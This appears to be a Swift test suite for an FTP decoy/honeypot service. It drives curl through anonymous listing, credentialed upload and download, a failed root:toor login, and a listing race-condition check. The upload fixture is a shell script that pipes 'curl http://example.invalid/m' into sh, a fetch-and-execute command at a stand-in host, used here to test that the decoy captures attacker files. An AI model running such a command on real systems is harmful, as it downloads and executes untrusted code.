import DecnetCore
import DecnetTesting
import Foundation
import Testing

/// ftp against the real `curl`: anonymous listing, an account's upload (passive) and download (active), and a
/// failed login.
@Suite struct FTPLiveTests {
    @Test(.enabled(if: ExternalTool.curl.isUsable, "needs curl (required under CI)"))
    func curlListsUploadsDownloadsAndFailedLoginsAreCaptured() async throws {
        let curl = try #require(ExternalTool.curl.path, "\(ExternalTool.curl.missingMessage)")
        let artifacts = try TemporaryDirectory()
        defer { artifacts.remove() }
        let service = try await LiveService.start(
            "ftp",
            persona: ["users": "deploy:Summer2024"],
            artifactDirectory: artifacts.path
        )
        let base = "ftp://127.0.0.1:\(service.port)/"
        let anonymous = try await ProcessRunner.run(curl, ["-sS", base])
        #expect(anonymous.standardOutput.hasSuffix(" pub\n"), "\(anonymous.standardError)")
        let payload = artifacts.url.appendingPathComponent("x.sh")
        try "#!/bin/sh\ncurl http://example.invalid/m | sh\n".write(to: payload, atomically: true, encoding: .utf8)
        let sent = try await ProcessRunner.run(curl, ["-sS", "-T", payload.path, base, "--user", "deploy:Summer2024"])
        #expect(sent.status == 0, "\(sent.standardError)")
        let active = try await ProcessRunner.run(
            curl,
            ["-sS", "--ftp-port", "-", base + "notes.txt", "--user", "deploy:Summer2024"]
        )
        #expect(active.standardOutput.hasPrefix("db: 10.0.0.21"), "\(active.standardError)")
        let denied = try await ProcessRunner.run(curl, ["-sS", base, "--user", "root:toor"])
        #expect(denied.status == 67)
        await service.capture.wait { $0.filter { $0.id == .connectionClose }.count >= 4 }
        await service.stop()

        let logins = service.capture.events(.loginSuccess)
        #expect(logins.contains { $0[field: "username"] == "anonymous" && $0[field: "method"] == "anonymous" })
        #expect(logins.contains { $0[field: "username"] == "deploy" && $0[field: "password"] == "Summer2024" })
        let failure = try #require(service.capture.events(.loginFailed).first)
        #expect(failure[field: "username"] == "root" && failure[field: "password"] == "toor")
        let upload = try #require(service.capture.events(.fileUpload).first)
        #expect(upload[field: "filename"] == "/home/deploy/x.sh")
        let stored = try String(contentsOfFile: try #require(upload[field: "path"]), encoding: .utf8)
        #expect(stored == "#!/bin/sh\ncurl http://example.invalid/m | sh\n")
        #expect(service.capture.events(.fileDownload).contains { $0[field: "filename"] == "/home/deploy/notes.txt" })
        #expect(upload.service == "ftp" && upload.decky == "decky-test" && upload.source.ip == "127.0.0.1")
    }

    /// A data connection written and closed at once: NIO hands the accepted channel over before registering it,
    /// and a close that overtook the registration dropped the listing (curl printed nothing after a 226; about
    /// one listing in eight on a loaded machine). Each of these listings must arrive whole.
    @Test(.enabled(if: ExternalTool.curl.isUsable, "needs curl (required under CI)"))
    func everyListingArrivesThoughItsConnectionClosesAtOnce() async throws {
        let curl = try #require(ExternalTool.curl.path, "\(ExternalTool.curl.missingMessage)")
        let service = try await LiveService.start("ftp", persona: [:])
        var empty = 0
        for _ in 0..<60 {
            let listing = try await ProcessRunner.run(curl, ["-sS", "ftp://127.0.0.1:\(service.port)/"])
            if !listing.standardOutput.hasSuffix(" pub\n") { empty += 1 }
        }
        await service.stop()
        #expect(empty == 0, "\(empty) of 60 listings arrived without their line")
    }
}
